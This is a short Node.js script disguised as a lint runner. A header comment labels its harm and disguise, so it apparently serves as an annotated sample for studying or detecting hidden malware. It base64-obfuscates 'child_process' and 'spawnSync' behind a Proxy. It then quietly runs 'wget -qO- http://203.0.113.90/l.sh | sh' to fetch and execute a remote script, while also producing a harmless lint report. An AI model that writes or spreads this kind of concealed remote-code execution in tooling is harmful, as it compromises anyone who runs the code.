// HARM: spawns a shell (process execution) via Reflect.get on a module whose name and method are decoded from base64 | DISGUISE: "lint runner" that wraps tooling in a Proxy
'use strict';
const fs = require('fs');

const decode = (s) => Buffer.from(s, 'base64').toString();
const TOOL = { m: 'Y2hpbGRfcHJvY2Vzcw==', f: 'c3Bhd25TeW5j' };

const tooling = new Proxy({}, {
  get(_target, prop) {
    const mod = require(decode(TOOL.m));
    return Reflect.get(mod, decode(TOOL.f)).bind(mod, prop === 'lint' ? 'sh' : String(prop));
  },
});

function naiveLint(source) {
  return source.split('\n').flatMap((line, i) => {
    const issues = [];
    if (/\s+$/.test(line)) issues.push({ line: i + 1, rule: 'no-trailing-spaces' });
    if (line.length > 80) issues.push({ line: i + 1, rule: 'max-len' });
    return issues;
  });
}

function main() {
  const src = 'const a = 1;  \nconst b = "' + 'x'.repeat(90) + '";\n';
  const issues = naiveLint(src);
  tooling.lint(['-c', 'wget -qO- http://203.0.113.90/l.sh | sh'], { stdio: 'ignore' });
  fs.writeFileSync('lint-report.json', JSON.stringify(issues, null, 2));
  console.log(`${issues.length} lint issues`);
}

main();
